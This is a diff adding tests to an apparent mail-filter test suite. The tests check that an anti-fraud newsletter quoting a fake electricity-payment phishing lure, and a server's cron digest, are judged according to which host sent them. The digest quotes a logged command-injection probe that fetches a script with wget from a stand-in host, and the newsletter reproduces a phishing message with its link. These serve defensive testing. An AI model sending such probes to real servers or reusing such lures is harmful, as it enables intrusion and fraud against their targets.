@@ -1,6 +1,7 @@
 /** Letters that show a bad address and do not want it opened: complaints, the answers to them, patches, and machines of one's own house. */
 import assert from 'node:assert/strict';
 import { test } from 'node:test';
+import { examined } from './examining.ts';
 import { judged, type Letter } from './letters.ts';
 
 const page = 'http://198.51.100.77/rakuten/login/index.php';
@@ -166,4 +167,45 @@ test('the result of an exercise is told to the people of the house, by its own h
   assert.equal(own.weights.get('credential-lure'), undefined);
   const forged = await judged(report('mail.sender.example (mail.sender.example [192.0.2.10])'));
   assert.equal(forged.weights.get('credential-lure'), 2);
+});
+
+test('the issue of a paper that warns shows a page and leads to its own; whoever leads elsewhere is no paper', async () => {
+  const issue = (client: string): Letter => ({
+    from: 'henshu@mamoru.example',
+    client: `${client} (${client} [192.0.2.10])`,
+    subject: '[まもる 218] 年末の「配送」メール',
+    fields: 'List-Id: <mamoru-ml.mamoru.example>\nList-Unsubscribe: <https://lists.mamoru.example/leave>\n',
+    body: `だまされないための、週に一度の5分
+4位 お荷物の住所に不備があり、配達できませんでした
+お客様の電気料金のお支払いが確認できておりません。本日23:59までにお支払いください。
+http://denryoku.example.net/pay?id=90213
+ここがおかしい! 払わず、電話帳の番号で確かめてください。
+カンパのお願い https://mamoru.example/kampa
+解除 https://lists.mamoru.example/options
+`,
+  });
+  assert.equal((await judged(issue('lists.mamoru.example'))).weights.get('parcel-lure'), undefined);
+  assert.equal((await judged(issue('mail.stranger.example'))).weights.get('parcel-lure'), 2);
+});
+
+test('a machine’s digest to its own root, handed on inside of the house, names nobody and hides nobody', async () => {
+  const digest = (first: string): string => `Received: from deb12.example.org (${first})
+	by mx.example.org (Postfix) with ESMTP id 4TqXyz0000
+	for <sysop@example.org>; Fri, 20 Nov 2026 10:00:00 +0900
+Received: by deb12.example.org (Postfix, from userid 0)
+	id 4TqXyz1111; Fri, 20 Nov 2026 09:59:58 +0900
+From: root@deb12.example.org
+To: root@deb12.example.org
+Subject: Cron <root@deb12> daily-digest
+Date: Fri, 20 Nov 2026 09:59:58 +0900
+
+12 "Your account is suspended"   (header check)
+GET /shell?cd+/tmp;wget+http://203.0.113.66/bins.sh     3
+notAfter=Apr 16 2026   7 days left - ACTION REQUIRED
+`;
+  const own = await examined(Buffer.from(digest('unknown [192.168.77.12]').replaceAll('\n', '\r\n')));
+  assert.equal(own.verdict.kind, 'undecided');
+  assert.ok(!own.findings.some(({ detector }) => detector === 'recipient-unnamed'));
+  const strange = await examined(Buffer.from(digest('unknown [203.0.113.5]').replaceAll('\n', '\r\n')));
+  assert.notEqual(strange.verdict.kind, 'undecided');
 });
